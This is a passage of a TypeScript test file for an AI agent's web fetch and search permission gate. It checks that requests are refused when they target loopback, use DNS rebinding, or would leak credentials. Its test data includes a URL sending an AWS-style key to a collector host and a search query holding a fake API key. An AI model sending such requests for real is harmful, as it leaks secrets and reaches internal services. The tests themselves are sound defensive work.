    expect(proxy.seen).toEqual([`CONNECT 127.0.0.1:${server.port}`]);
    expect(server.requests[0]?.headers.host).toBe(`docs.example.test:${server.port}`);
    await fetch(`https://tls.example.test:${server.port}/`);
    expect(proxy.seen[1]).toBe(`CONNECT 127.0.0.1:${server.port}`);
    expect(lookups).toEqual(['docs.example.test', 'tls.example.test']);
  });

  test('a target refused by the check is refused with a proxy too, and the proxy never hears of it', async () => {
    const proxy = await forwardProxy();
    const target = await bait();
    const { fetch } = fetcher([], { proxy: { http: proxy.origin, https: proxy.origin } });
    expect(await fetch(`http://127.0.0.1:${target.port}/`)).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(await fetch(`http://localhost:${target.port}/`)).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    const rebound = fetcher([], { proxy: { http: proxy.origin, https: proxy.origin }, resolve: { 'rebind.example.test': '127.0.0.1' } });
    expect(await rebound.fetch(`http://rebind.example.test:${target.port}/`)).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(proxy.seen).toEqual([]);
    expect(proxy.connections).toEqual([]);
    expect(target.connections).toEqual([]);
  });
});

describe('webfetch: the gate', () => {
  test('with an ask rule the card shows the URL and host before any lookup; "Allow for session" grants that host', async () => {
    const server = await webServer({ '/a': html('<p>a</p>'), '/b': html('<p>b</p>') });
    const { fetch, asked, lookups } = fetcher([`docs.example.test:${server.port}`], { user: { 'peon.permission.rules': { webfetch: 'ask' } }, resolve: { 'docs.example.test': '127.0.0.1' } });
    expectOk(await fetch(`http://docs.example.test:${server.port}/a`));
    expect(asked).toHaveLength(1);
    expect(asked[0]!.assessment.summary).toEqual({ kind: 'network', url: `http://docs.example.test:${server.port}/a`, host: 'docs.example.test' });
    expect(asked[0]!.permission.sessionGrants).toEqual(['docs.example.test']);
    expectOk(await fetch(`http://docs.example.test:${server.port}/b`));
    expect(asked).toHaveLength(1); // the host is granted for the session
    expect(lookups).toEqual(['docs.example.test', 'docs.example.test']);
  });

  test('a denied card sends nothing: no lookup, no connection; a punycode host is shown with its Unicode form', async () => {
    const { fetch, asked, lookups } = fetcher([], { user: { 'peon.permission.rules': { webfetch: 'ask' } }, approve: () => false });
    const outcome = await fetch('http://bücher.example.test/katalog?q=1');
    expect(outcome).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(asked[0]!.assessment.summary).toEqual({ kind: 'network', url: 'http://xn--bcher-kva.example.test/katalog?q=1', host: 'xn--bcher-kva.example.test', unicodeHost: 'bücher.example.test' });
    expect(lookups).toEqual([]);
  });

  test('a URL that would carry a credential out asks even though webfetch is allowed, cannot be granted, and a denial sends nothing', async () => {
    const { fetch, asked, lookups } = fetcher([], { approve: () => false, user: { 'peon.permission.rules': { webfetch: 'allow' } } });
    const outcome = await fetch('https://collector.example.test/c?key=AKIAIOSFODNN7EXAMPLE');
    expect(outcome).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(asked).toHaveLength(1);
    expect(asked[0]!.permission).toMatchObject({ decision: 'ask', source: 'what the request would carry out', reasons: ['the query string holds what looks like an AWS access key: it would leave the machine'], sessionGrants: [], grantable: [] });
    expect(asked[0]!.assessment.summary).toMatchObject({ concerns: ['the query string holds what looks like an AWS access key: it would leave the machine'] });
    expect(lookups).toEqual([]);
  });

  test('websearch asks for a query that carries a credential', async () => {
    const asked: unknown[] = [];
    const convo = conversationIn(tempDir('peon-web-'), { hooks: { approve: async (request) => (asked.push(request.permission.reasons), { approved: false }) } });
    expect(await convo.call('websearch', { query: 'why does sk-ant-api03-abcdefghijklmnopqrstuvwxyz012345 fail' })).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(asked).toEqual([['the search query holds what looks like an Anthropic or OpenAI API key: it would leave the machine']]);
  });

  test('host rules: a deny pattern refuses, an allow pattern lets a host through an ask default', async () => {
    const server = await webServer({ '/': html('<p>ok</p>') });
    const { fetch, asked } = fetcher([`a.example.test:${server.port}`, `b.example.test:${server.port}`], {
      user: { 'peon.permission.rules': { webfetch: { '*.example.test': 'ask', 'a.example.test': 'allow', 'b.example.test': 'deny' } } },
      resolve: { 'a.example.test': '127.0.0.1', 'b.example.test': '127.0.0.1' },
      approve: () => false,
    });
    expect(await fetch(`http://b.example.test:${server.port}/`)).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(asked).toEqual([]);
    expect(await fetch(`http://a.example.test:${server.port}/`)).toMatchObject({ ok: false }); // ask beats allow among matches: the card, denied
    expect(asked).toHaveLength(1);
    expect(server.connections).toEqual([]);
  });
});
